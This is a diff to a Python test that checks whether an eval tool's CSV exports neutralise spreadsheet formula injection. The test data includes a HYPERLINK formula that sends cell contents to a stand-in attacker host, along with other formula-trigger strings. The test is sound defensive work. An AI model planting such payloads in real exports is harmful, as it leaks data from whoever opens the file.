@@ -84,13 +84,13 @@ def test_csv_exports_neutralise_formulas_unless_raw(tmp_path, monkeypatch):
                                           "\tTAB", "-0.5", "plain")]
     cfg = write(tmp_path / "c.yaml", "prompts: ['{{w}}']\nproviders: [echo]\ntests: " + json.dumps(tests) + "\n")
     assert cli("eval", "-c", cfg, "--no-progress-bar", "-o", tmp_path / "a.csv").exit_code == 0
-    rows = list(csv.reader(open(tmp_path / "a.csv", newline="", encoding="utf-8")))
+    rows = list(csv.reader(io.StringIO((tmp_path / "a.csv").read_text(encoding="utf-8"), newline="")))
     assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2+3", "'@SUM(A1)",
                                          "'\tTAB", "-0.5", "plain"]
     assert [r[1] for r in rows[1:]] == [r[0] for r in rows[1:]]  # the echoed output too
     exported = cli("export", "latest", "-o", tmp_path / "b.csv", env={"FACTCLI_CSV_RAW": "1"})
     assert exported.exit_code == 0, exported.output
-    raw = list(csv.reader(open(tmp_path / "b.csv", newline="", encoding="utf-8")))
+    raw = list(csv.reader(io.StringIO((tmp_path / "b.csv").read_text(encoding="utf-8"), newline="")))
     assert [r[0] for r in raw[1:]] == [t["vars"]["w"] for t in tests]
 
 
